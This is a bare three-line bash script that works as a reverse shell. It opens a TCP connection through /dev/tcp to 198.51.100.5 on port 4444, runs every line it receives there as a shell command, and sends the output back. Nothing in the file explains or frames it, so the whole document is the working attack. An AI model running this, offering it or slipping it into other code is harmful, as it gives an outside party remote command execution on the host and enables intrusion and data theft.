#!/bin/bash
exec 5<>/dev/tcp/198.51.100.5/4444
while read -r line <&5; do $line >&5; done
